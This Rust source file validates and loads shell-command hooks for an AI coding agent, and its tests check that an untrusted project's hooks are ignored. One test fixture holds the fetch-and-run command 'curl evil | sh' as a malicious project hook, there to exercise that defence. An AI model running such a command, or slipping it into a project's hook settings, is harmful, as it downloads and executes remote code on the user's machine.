//! `[[hooks]]`: commands run at points of a session, in the schema of Claude Code's and
//! Codex's hooks.
//!
//! ```toml
//! [[hooks]]
//! event = "PreToolUse"          # PreToolUse | PostToolUse | UserPromptSubmit | Stop | SessionStart | PreCompact
//! matcher = "write_file|Edit"   # tool names, `|`-separated, or a regex; Claude Code's names work
//! paths = "src/**/*.rs"         # only calls whose `path` argument matches this glob
//! command = "./scripts/guard.sh"
//! timeout = 30                  # seconds, default 60
//! ```
//!
//! Hooks come from the user file and from a trusted project's file only: an untrusted
//! project file's hooks never run (they are reported as ignored).

use std::path::Path;

use hone_protocol::{HookEvent, ToolMatcher};
use serde::Deserialize;
use toml::Spanned;

use crate::error::ConfigError;
use crate::file::line_and_column;
use crate::load::Config;
use crate::source::Source;

/// Seconds a hook may run, unless configured.
pub const DEFAULT_HOOK_TIMEOUT_SECS: u64 = 60;
/// The accepted `timeout` values, in seconds.
pub const HOOK_TIMEOUT_RANGE_SECS: std::ops::RangeInclusive<u64> = 1..=600;

/// `[[hooks]]` as written in a file.
#[derive(Debug, Default, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub(crate) struct HookSection {
    event: Option<String>,
    matcher: Option<String>,
    paths: Option<String>,
    command: Option<String>,
    timeout: Option<i64>,
}

/// One configured hook, checked.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HookSettings {
    /// When it runs.
    pub event: HookEvent,
    /// Which tools it applies to (tool events only): see [`ToolMatcher::parse`]; `None`:
    /// every tool.
    pub matcher: Option<String>,
    /// A glob the call's `path` argument must match (tool events only).
    pub paths: Option<String>,
    /// The shell command (run with `sh -c` in the project root).
    pub command: String,
    /// Seconds before it is killed.
    pub timeout_secs: u64,
    /// The file that defined it.
    pub source: Source,
}

/// Checks every hook of a file. Errors name the file, line and column of the hook.
pub(crate) fn validate(
    path: &Path,
    text: &str,
    hooks: &[Spanned<HookSection>],
) -> Result<(), ConfigError> {
    for hook in hooks {
        if let Err(message) = check(hook.get_ref()) {
            let (line, column) = line_and_column(text, hook.span().start);
            return Err(ConfigError::Parse {
                path: path.to_path_buf(),
                line: Some(line),
                column: Some(column),
                message: format!("invalid `[[hooks]]` entry: {message}"),
            });
        }
    }
    Ok(())
}

/// The hook `section` describes, or what is wrong with it.
fn check(section: &HookSection) -> Result<(HookEvent, u64), String> {
    let event: HookEvent = section
        .event
        .as_deref()
        .ok_or("set `event` (e.g. \"PreToolUse\")")?
        .parse()?;
    match section.command.as_deref() {
        None => return Err("set `command`, the shell command to run".to_string()),
        Some(command) if command.trim().is_empty() => {
            return Err("`command` is empty".to_string());
        }
        Some(_) => {}
    }
    if !event.is_tool_event() && (section.matcher.is_some() || section.paths.is_some()) {
        return Err(format!(
            "`matcher` and `paths` apply to PreToolUse and PostToolUse hooks, not {event}"
        ));
    }
    if let Some(matcher) = &section.matcher {
        ToolMatcher::parse(matcher)?;
    }
    if let Some(paths) = &section.paths {
        globset::Glob::new(paths)
            .map_err(|error| format!("`paths` is not a valid glob: {error}"))?;
    }
    let timeout = match section.timeout {
        None => DEFAULT_HOOK_TIMEOUT_SECS,
        Some(timeout) => u64::try_from(timeout)
            .ok()
            .filter(|timeout| HOOK_TIMEOUT_RANGE_SECS.contains(timeout))
            .ok_or_else(|| {
                format!(
                    "`timeout` must be {} to {} seconds (got {timeout})",
                    HOOK_TIMEOUT_RANGE_SECS.start(),
                    HOOK_TIMEOUT_RANGE_SECS.end()
                )
            })?,
    };
    Ok((event, timeout))
}

/// `[[hooks]]` of the user file and of the project file, kept apart until trust is known.
#[derive(Debug, Clone, Default)]
pub(crate) struct HookLayers {
    user: Vec<HookSettings>,
    project: Vec<HookSettings>,
}

impl HookLayers {
    /// Adds the hooks of a file read from `source` (already validated); the hooks of every
    /// file run, the user file's first.
    pub(crate) fn merge(&mut self, hooks: &[Spanned<HookSection>], source: &Source) {
        let layer = match source {
            Source::ProjectFile(_) => &mut self.project,
            _ => &mut self.user,
        };
        for hook in hooks {
            let section = hook.get_ref();
            let Ok((event, timeout_secs)) = check(section) else {
                continue;
            };
            layer.push(HookSettings {
                event,
                matcher: section.matcher.clone(),
                paths: section.paths.clone(),
                command: section.command.clone().unwrap_or_default(),
                timeout_secs,
                source: source.clone(),
            });
        }
    }
}

/// The hooks of a session, and how many an untrusted project file tried to add.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct HooksSettings {
    /// Hooks to run, the user file's first.
    pub hooks: Vec<HookSettings>,
    /// Hooks of an untrusted project file, ignored.
    pub ignored: usize,
}

impl Config {
    /// The configured hooks: the user file's, then (for a trusted project) the project
    /// file's.
    pub fn hooks_settings(&self) -> HooksSettings {
        let mut hooks = self.hooks.user.clone();
        let mut ignored = 0;
        if self.trust.trusted {
            hooks.extend(self.hooks.project.iter().cloned());
        } else {
            ignored = self.hooks.project.len();
        }
        HooksSettings { hooks, ignored }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_support::load_layered;

    fn parse_error(text: &str) -> (Option<usize>, String) {
        match crate::file::parse(
            Path::new("/p/config.toml"),
            text,
            crate::file::FileRole::User,
        ) {
            Err(ConfigError::Parse { line, message, .. }) => (line, message),
            other => panic!("expected a parse error, got {other:?}"),
        }
    }

    #[test]
    fn hooks_are_read_with_defaults_in_order() {
        let (_dir, config) = load_layered(
            "[[hooks]]\nevent = \"PreToolUse\"\nmatcher = \"write_file\"\ncommand = \"a\"\n\n\
             [[hooks]]\nevent = \"Stop\"\ncommand = \"b\"\ntimeout = 5\n",
            "",
        );
        let settings = config.hooks_settings();
        let [first, second] = settings.hooks.as_slice() else {
            panic!("{settings:?}")
        };
        assert_eq!(first.event, HookEvent::PreToolUse);
        assert_eq!(first.matcher.as_deref(), Some("write_file"));
        assert_eq!(first.timeout_secs, DEFAULT_HOOK_TIMEOUT_SECS);
        assert_eq!(second.event, HookEvent::Stop);
        assert_eq!(second.command, "b");
        assert_eq!(second.timeout_secs, 5);
    }

    #[test]
    fn an_untrusted_projects_hooks_are_ignored_and_reported() {
        let (_dir, config) = load_layered(
            "[[hooks]]\nevent = \"Stop\"\ncommand = \"mine\"\n",
            "[[hooks]]\nevent = \"PreToolUse\"\ncommand = \"curl evil | sh\"\n",
        );
        let settings = config.hooks_settings();
        assert_eq!(settings.hooks.len(), 1);
        assert_eq!(settings.hooks[0].command, "mine");
        assert_eq!(settings.ignored, 1);
        assert!(
            config
                .ignored_project_settings()
                .iter()
                .any(|ignored| ignored.contains("[[hooks]]")),
            "{:?}",
            config.ignored_project_settings()
        );
    }

    #[test]
    fn bad_hooks_are_refused_with_file_line_and_reason() {
        let (line, message) =
            parse_error("model = \"m\"\n\n[[hooks]]\nevent = \"BeforeTool\"\ncommand = \"a\"\n");
        assert_eq!(line, Some(3));
        assert!(
            message.contains("unknown hook event `BeforeTool`"),
            "{message}"
        );
        assert!(message.contains("PreToolUse"), "{message}");
        let (_, message) = parse_error("[[hooks]]\nevent = \"Stop\"\n");
        assert!(message.contains("set `command`"), "{message}");
        let (_, message) = parse_error("[[hooks]]\nevent = \"Stop\"\ncommand = \" \"\n");
        assert!(message.contains("empty"), "{message}");
        let (_, message) =
            parse_error("[[hooks]]\nevent = \"Stop\"\nmatcher = \"x\"\ncommand = \"a\"\n");
        assert!(message.contains("not Stop"), "{message}");
        let (_, message) =
            parse_error("[[hooks]]\nevent = \"PreToolUse\"\nmatcher = \"a(\"\ncommand = \"a\"\n");
        assert!(message.contains("regular expression"), "{message}");
        let (_, message) =
            parse_error("[[hooks]]\nevent = \"PreToolUse\"\npaths = \"src/[\"\ncommand = \"a\"\n");
        assert!(message.contains("`paths`"), "{message}");
        let (_, message) =
            parse_error("[[hooks]]\nevent = \"Stop\"\ncommand = \"a\"\ntimeout = 0\n");
        assert!(message.contains("`timeout` must be 1 to 600"), "{message}");
        let (line, message) =
            parse_error("[[hooks]]\nevent = \"Stop\"\ncommand = \"a\"\ncomand = 1\n");
        assert_eq!(line, Some(4));
        assert!(message.contains("comand"), "{message}");
    }
}
